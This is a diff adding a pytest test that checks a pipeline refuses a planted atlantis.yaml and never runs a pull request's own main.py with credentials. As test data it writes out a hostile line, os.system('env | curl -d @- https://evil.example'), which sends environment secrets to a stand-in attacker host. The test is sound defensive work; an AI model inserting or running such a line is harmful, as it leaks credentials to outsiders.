@@ -175,6 +175,18 @@ def test_planted_attacks_are_refused_before_anything_is_planned(repo, run_cli, w
     assert "<!--" not in err, "a name from the pull request is never shown raw"
 
 
+def test_the_whole_commit_includes_its_atlantis_yaml_and_main_py_is_no_part_of_the_compiler(repo, run_cli):
+    """A planted atlantis.yaml is refused by the whole-commit check (Atlantis's pre-workflow hook, the plan's check
+    job); a main.py of the pull request's own is not the compiler: nothing with a credential runs it, and the
+    commit's stacks are still compared with the rebuild (tests/delivery/test_workflows.py and
+    test_atlantis_config.py check that no step runs it)."""
+    code, _, err = check(run_cli, repo, plant(repo, _edit_text("atlantis.yaml", "projects:", "workflows: {x: {}}\nprojects:")))
+    assert code == 1 and "atlantis.yaml: differs from what the registry compiles to" in err
+    evil_main = _edit_text("main.py", "import os\n", "import os\nos.system('env | curl -d @- https://evil.example')\n")
+    code, out, err = check(run_cli, repo, plant(repo, evil_main))
+    assert (code, err) == (0, "") and "and equal this compiler's build" in out
+
+
 def test_a_stack_edited_by_hand_differs_from_the_rebuild(repo, run_cli):
     """Without a compiler change, the stacks must be exactly what the registry compiles to: even a shape the
     allow-list accepts (a changed tag value) is refused."""
